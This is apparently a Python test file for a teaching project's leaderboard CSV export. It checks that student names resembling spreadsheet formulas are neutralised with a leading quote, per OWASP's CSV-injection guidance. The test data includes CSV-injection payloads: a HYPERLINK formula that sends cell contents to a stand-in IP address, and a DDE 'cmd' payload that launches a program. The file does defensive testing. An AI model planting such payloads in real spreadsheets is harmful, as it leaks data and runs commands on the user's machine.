"""The board's CSV is opened by the teacher in a spreadsheet: a student's name that reads as a formula stays text
(OWASP's rule for CSV injection), and the scores stay numbers a spreadsheet can sort."""

from __future__ import annotations

import csv
import io

from babygpt.lessons.leaderboard import Board, Entry, Refusal, Spread, board_csv, rank_entries

FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            " =cmd|' /C calc'!A0"]


def board_with(names: list[str]) -> Board:
    entries = [Entry(f"run{i}", name, f"{name} run", 1.5 + i / 10, f"gpt 2×64 · {name}")
               for i, name in enumerate(names)]
    return Board("Challenge (final)", "Text t", Spread(0.01, 1, 2), rank_entries(entries, 0.01),
                 waiting=[(names[0], "=WAIT()", "+training, step 3")],
                 refused=[Refusal(names[1], "-refused", "@it trains on =another text")])


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_name_that_reads_as_a_formula_stays_text_in_every_cell():
    rows = cells(board_csv(board_with(FORMULAS)))
    text_cells = [cell for row in rows[1:] for column, cell in zip(rows[0], row, strict=True)
                  if column not in ("bits_per_byte", "spread_bits") and cell]
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    assert not [c for c in text_cells if c.lstrip().startswith(starts)], "no text cell starts like a formula"
    handles = [row[1] for row in rows[1:]]
    assert {h[1:] for h in handles} == set(FORMULAS), "the name is kept as typed, after the leading quote"
    tied = [row[5] for row in rows[1:len(FORMULAS) + 1]]
    assert all(t.startswith("'") for t in tied if t.lstrip("'").startswith(starts))


def test_scores_stay_numbers_and_ordinary_names_are_untouched():
    rows = cells(board_csv(board_with(["Ada", "Grace Hopper", "Zed"])))
    assert [r[1] for r in rows[1:4]] == ["Ada", "Grace Hopper", "Zed"]
    assert [float(r[4]) for r in rows[1:4]] == [1.5, 1.6, 1.7]
    assert all(float(r[6]) == 0.01 for r in rows[1:])
    assert rows[4][:4] == ["not ranked", "Ada", "'=WAIT()", "'+training, step 3"]
    assert rows[5][:4] == ["refused", "Grace Hopper", "'-refused", "'@it trains on =another text"]
